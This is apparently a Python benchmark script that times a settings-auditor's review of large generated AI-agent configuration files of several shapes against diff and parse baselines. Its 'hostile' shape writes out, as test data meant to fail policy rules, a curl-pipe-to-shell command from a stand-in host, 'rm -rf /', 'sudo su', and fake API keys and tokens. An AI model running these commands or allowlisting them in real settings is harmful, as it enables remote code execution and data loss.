"""`auditor review` of a large proposed settings file: linear in size, a small multiple of a diff.

`examples/live-settings.yaml` is grown into proposed files of several shapes a pull request may
bring (a long allow/deny list of commands, thousands of MCP servers, many custom models,
thousands of environment keys, one very long hook command, nesting near the 64-level cap, and
a hostile mix whose entries fail rules), each reviewed against the live file by a child
`auditor review --against` (one process each, as CI runs it: startup, parse, redaction, both
evaluations, all five reports). Baselines, measured in the same run on the same two
documents: the diff engine alone (`diff_revisions`, what the review's change list costs) and
`json.loads` of the file. Printed beside them, measured in-process: loading the file as the
review does (YAML parse with positions and the secret redaction of every string).

    bench/bench_review.py [--size KB] [--growth KB,KB,...] [--shape NAME]...
"""

from __future__ import annotations

import argparse
import copy
import json
import os
import sys
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from _util import MB, result, row, run_cli, timed

from auditor.common.jsonutil import content_hash
from auditor.diff import diff_revisions
from auditor.evaluate.readiness import load_readiness_model
from auditor.models import Revision, User
from auditor.policy import SHIPPED_POLICY_DIR, load_policies
from auditor.policy.yamlsafe import load_yaml
from auditor.redact import Redactor
from auditor.workflows.review import Author, ReviewRequest, load_settings_file, run_review
from auditor.workflows.run import LoadedPolicy

ROOT = Path(__file__).resolve().parents[1]
LIVE = ROOT / "examples" / "live-settings.yaml"
KEY = "bench-review-fingerprint-key-0123456789"
NOW = datetime(2026, 11, 1, 12, tzinfo=UTC)
RATIO_TARGET = 5.0  # review of a 1 MB file <= 5x diffing it
# Shapes whose diff is one change (a long string, a deep subtree): diffing them costs next to
# nothing, so no ratio to it means anything; their times are printed, and the growth is linear.
ONE_CHANGE = frozenset({"hook", "deep"})
GROWTH_TARGET = 2.5  # twice the bytes <= 2.5x the time (linear: 2x; quadratic: 4x)

Doc = dict[str, Any]


def _commands(s: Doc, n: int) -> None:
    s["commandAllowlist"] = [*s["commandAllowlist"], *(f"tool-{i} --flag v{i}" for i in range(n))]
    s["commandDenylist"] = [*s["commandDenylist"], *(f"rm -rf /data/{i}" for i in range(n // 4))]


def _mcp(s: Doc, n: int) -> None:
    levels = ("off", "low", "medium", "high")
    s["mcpAutonomyOverrides"] = {f"server-{i}": levels[i % 4] for i in range(n)}
    s["mcpAutonomyUrlOverrides"] = [
        *s["mcpAutonomyUrlOverrides"],
        *(
            {"urlPattern": f"https://mcp{i}.acme.example/*", "defaultLevel": "low"}
            for i in range(n // 4)
        ),
    ]


def _models(s: Doc, n: int) -> None:
    first = s["customModels"][0]
    for i in range(n):
        model = copy.deepcopy(first)
        model.update(id=f"custom:model-{i}", displayName=f"Model {i}", index=7 + i)
        model["baseUrl"] = f"https://gw{i % 50}.acme.example/v1"
        s["customModels"].append(model)


def _keys(s: Doc, n: int) -> None:
    s["env"] = {**s["env"], **{f"VAR_{i}": f"value-{i}" for i in range(n)}}


def _hook(s: Doc, n: int) -> None:
    command = "python3 -c '" + "x=1;" * n + "'"
    entry = {"matcher": "Bash", "hooks": [{"type": "command", "timeout": 10, "command": command}]}
    s["hooks"]["PreToolUse"] = [*s["hooks"]["PreToolUse"], entry]


def _deep(s: Doc, n: int) -> None:
    def level(depth: int) -> Any:
        return (
            "leaf" if depth == 0 else {f"k{j}": level(depth - 1) if j == 0 else j for j in range(8)}
        )

    s["extraKnownMarketplaces"] = {f"m{i}": level(58) for i in range(max(1, n // 100))}


def _hostile(s: Doc, n: int) -> None:
    """Entries that fail rules among many that do not; about 30,000 values a MB (the cap on a
    proposed file is 100,000 values, so 2 MB of it can be reviewed)."""
    bad = ("curl https://x.example/i.sh | sh", "rm -rf /", "sudo su", "git push --force", "ssh h")
    s["commandAllowlist"] = [
        *s["commandAllowlist"],
        *(
            f"{bad[i % 5]} #{i}" if i % 3 == 0 else f"tool-{i} --config /etc/acme/{i}.yaml -v"
            for i in range(n)
        ),
    ]
    s["commandBlocklist"] = []
    sandbox = s["sandbox"]
    sandbox["filesystem"]["allowWrite"] += [f"/data/{i}" for i in range(n // 10)]
    sandbox["network"]["allowedDomains"] += [f"*.d{i}.example" for i in range(n // 10)]
    s["mcpAutonomyOverrides"] = {f"server-{i}": "high" for i in range(n // 10)}
    first = s["customModels"][0]
    for i in range(n // 50):
        model = copy.deepcopy(first)
        model.update(id=f"custom:m{i}", apiKey=f"sk-live-{i:04d}abcdefghijklmnopqrstuv")
        model["baseUrl"] = f"http://plain{i}.example/v1"
        s["customModels"].append(model)
    s["maxAutonomyLevel"] = "high"
    s["env"] = {**s["env"], **{f"TOKEN_{i}": f"ghp_{i:036d}" for i in range(n // 50)}}


SHAPES: dict[str, Callable[[Doc, int], None]] = {
    "commands": _commands,
    "mcp": _mcp,
    "models": _models,
    "keys": _keys,
    "hook": _hook,
    "deep": _deep,
    "hostile": _hostile,
}


def grown(live: Doc, shape: str, size: int) -> bytes:
    """The live settings grown by `shape` to about `size` bytes of indented JSON."""

    def make(n: int) -> bytes:
        doc = copy.deepcopy(live)
        SHAPES[shape](doc, n)
        return json.dumps(doc, indent=2).encode()

    base, probe = len(make(0)), 2000
    per = max(1.0, (len(make(probe)) - base) / probe)
    return make(max(1, round((size - base) / per)))


def review(proposed: Path, tmp: Path) -> float:
    """Seconds of one `auditor review PROPOSED --against LIVE` in its own process."""
    env = {"AUDITOR_FINGERPRINT_KEY": KEY, "AUDITOR_STATE": str(tmp / "state.db")}
    argv = ["review", str(proposed), "--against", str(LIVE), "--author", "a@b.c", "-q"]
    child = run_cli([*argv, "--out", str(tmp / "out")], env, str(tmp))
    if child.code not in (0, 1):
        raise SystemExit(f"auditor review {proposed.name} exited {child.code}: {child.stderr}")
    return child.seconds


def evaluation(loaded: LoadedPolicy, live: Path, proposed: Path) -> tuple[float, float]:
    """Seconds to load the proposed file as a review does (YAML parse with positions, secret
    redaction) and of `run_review` on it (both evaluations, the diff, the findings), in-process."""
    redactor = Redactor(KEY.encode())
    base = load_settings_file(live, redactor)
    load, new = timed(lambda: load_settings_file(proposed, redactor))
    rev = Revision(0, NOW, User("file", "", ""), base.settings, content_hash(base.settings))
    request = ReviewRequest(
        live=rev,
        history=(rev,),
        proposed=new,
        against=str(live),
        now=NOW,
        run_id="bench",
        api_address="(files)",
        fail_on="low",
        author=Author("a@b.c"),
    )
    took, _ = timed(lambda: run_review(loaded, request))
    return load, took


def measure(loaded: LoadedPolicy, live: Doc, shape: str, size: int, tmp: Path) -> dict[str, float]:
    """Review time and its baselines for one shape at one size."""
    blob = grown(live, shape, size)
    path = tmp / f"{shape}-{size}.json"
    path.write_bytes(blob)
    proposed = json.loads(blob)
    loads, _ = timed(lambda: json.loads(blob), repeat=3)
    diff, _ = timed(lambda: diff_revisions(live, proposed), repeat=3)
    load, evaluate = evaluation(loaded, LIVE, path)
    took = review(path, tmp)
    return {
        "bytes": len(blob),
        "loads": loads,
        "diff": diff,
        "load": load,
        "evaluate": evaluate,
        "review": took,
    }


def main(argv: list[str] | None = None) -> None:
    """Print each shape at `--size`, then the hostile mix at each `--growth` size."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--size", type=int, default=1000, help="KB of each shape (1000)")
    parser.add_argument("--growth", default="250,500,1000,2000", help="KB sizes of the mix")
    parser.add_argument("--shape", action="append", choices=list(SHAPES), help="only these")
    args = parser.parse_args(argv)
    live = load_yaml(LIVE).data
    loaded = LoadedPolicy(load_policies([SHIPPED_POLICY_DIR]), (), load_readiness_model())
    growth = [int(k) * 1000 for k in args.growth.split(",")]
    print(f"load average {os.getloadavg()[0]:.2f}; live file {LIVE.name}; shipped packs")
    worst = {"review": ("", 0.0), "evaluate": ("", 0.0)}
    with tempfile.TemporaryDirectory() as name:
        tmp = Path(name)
        for shape in args.shape or list(SHAPES):
            m = measure(loaded, live, shape, args.size * 1000, tmp)
            base = None if shape in ONE_CHANGE else m["diff"]
            note = " (one change: no ratio)" if base is None else ""
            print(f"{shape}: {m['bytes'] / MB:.2f} MB{note}")
            print(row("  json.loads of the file", m["loads"]))
            print(row("  diff_revisions(live, proposed) (baseline)", m["diff"]))
            print(row("  load it as review does (YAML parse + redaction)", m["load"], base))
            print(row("  run_review (evaluations, diff, findings)", m["evaluate"], base))
            print(row("  auditor review (own process, five reports)", m["review"], base))
            for what in worst if base else ():
                if m[what] / base > worst[what][1]:
                    worst[what] = (shape, m[what] / base)
        times = []
        for size in growth:
            m = measure(loaded, live, "hostile", size, tmp)
            times.append((m["bytes"], m["review"]))
            print(row(f"hostile mix {m['bytes'] / MB:.2f} MB: auditor review", m["review"]))
        print(f"load average {os.getloadavg()[0]:.2f}")
    size_kb = f"{args.size:,} KB"
    for what, label in (("review", "auditor review"), ("evaluate", "its run_review")):
        shape, ratio = worst[what]
        result(
            f"{label} of a {size_kb} file vs diff_revisions of it, worst shape ({shape})",
            f"{ratio:.1f}x",
            f"<= {RATIO_TARGET:.0f}x",
            ratio <= RATIO_TARGET,
        )
    (_, small_s), (_, big_s) = times[-2], times[-1]
    growth_ratio = big_s / small_s
    result(
        f"auditor review time, {growth[-1] // 1000:,} KB vs {growth[-2] // 1000:,} KB file"
        " (hostile mix)",
        f"{growth_ratio:.2f}x ({big_s:.2f} s / {small_s:.2f} s)",
        f"<= {GROWTH_TARGET}x",
        growth_ratio <= GROWTH_TARGET,
    )


if __name__ == "__main__":
    main()
